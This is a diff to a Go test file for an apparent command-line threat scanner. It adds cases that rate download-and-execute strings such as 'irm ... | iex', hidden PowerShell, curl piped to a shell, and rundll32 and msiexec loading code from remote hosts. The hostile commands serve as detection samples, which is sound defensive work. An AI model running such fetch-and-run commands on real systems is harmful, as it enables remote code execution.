@@ -45,6 +45,20 @@ func TestGadgetFamily(t *testing.T) {
 	})
 }
 
+// TestPublishedInstaller: nothing but what an installation guide has is possible,
+// unless it hides.
+func TestPublishedInstaller(t *testing.T) {
+	for value, severity := range map[string]Severity{
+		"irm https://get.synthetic.test | iex": Medium, "powershell -w hidden -c \"irm https://get.synthetic.test | iex\"": High, "irm http://" + address + " | iex": High,
+		curl + " -fsSL https://get.synthetic.test/i.sh " + pipe: Medium, curl + " -kfsSL https://get.synthetic.test/i.sh -k " + pipe + " >/dev/null": High,
+	} {
+		found := findingsIn(t, "x", value)
+		if len(found) != 1 || found[0].Severity != severity {
+			t.Errorf("%q: found %s, want severity %s", value[:8], brief(found), severity)
+		}
+	}
+}
+
 func TestWindowsFamily(t *testing.T) {
 	const rule, technique = "windows-download", "T1105"
 	client := "(New-Object Net.WebClient).Download" + "String('http://" + address + "/a')"
@@ -56,6 +70,8 @@ func TestWindowsFamily(t *testing.T) {
 		{"short names", "powershell -c \"irm http://" + address + "/i.ps1 | iex\"", rule, technique},
 		{"installer", "msiexec " + "/q /i http://" + address + "/a.msi", rule, technique},
 		{"scheduled", "schtasks " + "/create /sc minute /tn u /tr \"powershell -w hidden -c iex(iwr http://" + address + "/a)\"", rule, technique},
+		{"library of a share", "rundll32.exe " + `\\` + address + `\s\x.dll,Start`, rule, technique},
+		{"published, in a guide", "To install, open a shell and run\nirm https://get.synthetic.test | iex\nthen restart it", "", ""},
 		{"installer of a file", "msiexec /i C:\\a.msi REBOOT=no https://a/help", "", ""},
 		{"confirmation", "confirm http://a/b iex ", "", ""},
 		{"script that reads", "$page = " + client, "", ""},
